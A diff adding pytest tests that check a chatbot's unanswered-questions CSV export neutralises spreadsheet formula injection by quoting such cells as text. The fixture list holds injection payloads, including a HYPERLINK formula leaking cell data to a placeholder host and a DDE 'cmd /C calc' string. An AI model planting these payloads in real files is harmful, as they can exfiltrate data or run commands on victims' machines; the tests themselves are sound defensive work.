@@ -135,3 +135,53 @@ def test_a_damaged_database_gives_one_line_and_exit_code_2(tmp_path: Path) -> No
         assert "Traceback" not in result.stderr
         assert result.stderr.startswith("Không mở được cơ sở dữ liệu:")
         assert len(result.stderr.strip().splitlines()) == 1
+
+
+# Questions a spreadsheet would run as formulas, as a user could type them.
+FORMULA_QUESTIONS = (
+    '=HYPERLINK("http://example.invalid/?q="&A1;"Bấm vào đây")',
+    "+84 283 817 2459 gọi ai",
+    "-2+3 là mấy",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def _fill_formulas(data_dir: Path) -> None:
+    async def fill() -> None:
+        storage = await Storage.open(data_dir, retention_days=90)
+        now = time.time()
+        try:
+            for n, text in enumerate(FORMULA_QUESTIONS):
+                await storage.record_question(n, text, HANDOFF, at=now - 60 - n)
+        finally:
+            await storage.close()
+
+    asyncio.run(fill())
+
+
+def _questions_in(csv_text: str) -> list[str]:
+    return [row["cau_hoi"] for row in csv.DictReader(io.StringIO(csv_text, newline=""))]
+
+
+def test_unanswered_csv_writes_formula_like_questions_as_text(tmp_path: Path) -> None:
+    data_dir = tmp_path / "data"
+    _fill_formulas(data_dir)
+    expected = sorted("'" + text for text in FORMULA_QUESTIONS)  # readable, never run
+
+    to_file = _bot(tmp_path, data_dir, "unanswered", "--csv", "out.csv")
+    assert to_file.returncode == 0, to_file.stderr
+    written = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
+    assert sorted(_questions_in(written)) == expected
+
+    to_stdout = subprocess.run(
+        [sys.executable, "-m", "bot", "unanswered", "--csv", "-"],
+        cwd=tmp_path,
+        env=clean_env(DATA_DIR=str(data_dir)),
+        capture_output=True,
+        timeout=120,
+        check=False,
+    )
+    assert to_stdout.returncode == 0, to_stdout.stderr.decode()
+    assert sorted(_questions_in(to_stdout.stdout.decode("utf-8-sig"))) == expected
